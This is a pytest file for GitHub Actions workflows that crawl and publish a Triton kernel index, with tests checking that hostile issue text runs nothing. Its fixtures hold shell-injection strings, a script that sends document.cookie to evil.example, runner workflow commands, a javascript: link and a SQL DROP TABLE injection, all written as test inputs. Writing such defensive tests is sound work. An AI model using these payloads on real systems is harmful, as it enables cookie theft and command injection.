"""The steps of the workflows, run for real as far as no GitHub is needed."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.github_crawl.crawls import SECRET, kernel_file
from tests.github_server import GithubServer
from tests.github_server.workflows import HostedRun
from tests.index.automation.jobs import OWN, Jobs
from tests.workflows.files import ROOT
from tests.workflows.runner import Ran, run_job

RESULTS = ROOT / "verified_kernels" / "results" / "h200.json"

COMPILED = """[{"id": "acme/a:softmax.py::softmax_kernel", "triton": "3.9.0",
    "target": "cuda:90", "outcome": "compiled", "source_sha": "a"}]"""

# A shell that expanded any of these would make the file `pwned` in its folder.
EXPANSIONS = (
    "$(touch pwned)",
    "`touch pwned`",
    '"; touch pwned; "',
    "'; touch pwned; '",
    "&& touch pwned",
    "| touch pwned",
    "\n touch pwned\n",
    "${{ github.token }}",
    "--db=/tmp/pwned --post",
)
BODY = """### Operation

{title}

### Reference in PyTorch

```python
import os; os.system("touch pwned")
```

<!-- {title} -->
<script>fetch("https://evil.example/" + document.cookie)</script>
::set-output name=run-id::666
::add-mask::pwned
@everyone [x](javascript:alert(1)) '); DROP TABLE kernel_rows; --
"""


@pytest.fixture
def server(tmp_path: Path):
    with GithubServer(tmp_path / "hosted") as server:
        yield server


@pytest.fixture
def jobs(server: GithubServer, tmp_path: Path) -> Jobs:
    """A repository whose index is published once."""
    jobs = Jobs(server, tmp_path / "jobs")
    jobs.folder.mkdir()
    jobs.list_sources("acme/a", "acme/b")
    jobs.hosted("acme/a").push({"softmax.py": kernel_file("softmax_kernel")})
    assert jobs.crawl_and_publish().code == 0
    jobs.machine += 1
    return jobs


def assert_went_well(ran: list[Ran]) -> None:
    assert ran
    assert [(one.step.name, one.err) for one in ran if one.code != 0] == []


def test_the_crawl_workflow_crawls_on_and_publishes(jobs: Jobs) -> None:
    jobs.own.workflows["gpu.yml"] = [HostedRun(id=4711)]
    jobs.own.workflows["compile.yml"] = [HostedRun(id=4712)]
    jobs.hosted("acme/a").push({"new.py": kernel_file("new")})
    # What the step before fetches: the artifact of a run on the GPU.
    artifact = jobs.work / "build" / "verification" / "verification.json"
    artifact.parent.mkdir(parents=True)
    artifact.write_bytes(RESULTS.read_bytes())
    compiled = jobs.work / "build" / "compiled" / "compiled-3.9.0" / "compiled.json"
    compiled.parent.mkdir(parents=True)
    compiled.write_text(COMPILED)
    ran = run_job(jobs, "crawl.yml", "crawl")
    assert_went_well(ran)
    assert any("1 kernels were compiled" in one.err for one in ran)
    assert any("0 failed" in one.err for one in ran if "verify import" in one.step.run)
    # An artifact goes where the next job looks for it.
    (jobs.work / "build" / "crawl" / "index.duckdb").stat()
    assert (jobs.work / "output").read_text() == "run-id=4711\nrun-id=4712\n"
    assert_went_well(run_job(jobs, "crawl.yml", "publish"))
    assert "acme/a:new.py::new" in jobs.live()
    assert SECRET not in "".join(one.out + one.err for one in ran)


def test_the_heartbeat_keeps_every_schedule_on(jobs: Jobs) -> None:
    for workflow in ("crawl.yml", "wishes.yml", "gpu.yml", "compile.yml", "pages.yml"):
        jobs.own.workflows[workflow] = []
    assert_went_well(run_job(jobs, "crawl.yml", "heartbeat"))
    assert jobs.own.enabled == ["crawl.yml", "wishes.yml", "gpu.yml", "compile.yml", "pages.yml"]


def test_a_hostile_wish_goes_through_the_workflow_and_nothing_is_executed(
    jobs: Jobs, tmp_path: Path
) -> None:
    for text in EXPANSIONS:
        jobs.own.tracker.ask(f"[Wish] {text}", BODY.format(title=text), by="mallory")
    served = jobs.own.tracker.ask(
        f"[Wish] softmax {' '.join(EXPANSIONS[:5])}",
        BODY.format(title="softmax"),
        by="mallory",
        labels=["kernel-request"],
    )
    ran = run_job(jobs, "wishes.yml", "wishes")
    assert_went_well(ran)
    assert len(ran) == 4
    assert not list(tmp_path.rglob("pwned*"))
    assert not (jobs.work / "output").exists(), "an issue set an output"
    said = "".join(one.out + one.err for one in ran)
    lines = said.splitlines()
    assert not any(line.lstrip().startswith("::") for line in lines), "a command to the runner"
    assert SECRET not in said
    jobs.machine += 1
    assert_went_well(run_job(jobs, "wishes.yml", "wishes"))
    # The second machine knows nothing of the first, and must find what that one wrote.
    (answer,) = served.comments
    assert "softmax_kernel" in answer.body
    for issue in jobs.own.tracker.issues.values():
        assert len(issue.comments) <= 1
        for comment in issue.comments:
            assert "<script" not in comment.body
            assert "@everyone" not in comment.body
            assert "javascript:" not in comment.body
    assert jobs.server.world.find(OWN) is not None
    assert len(jobs.live()) == 7
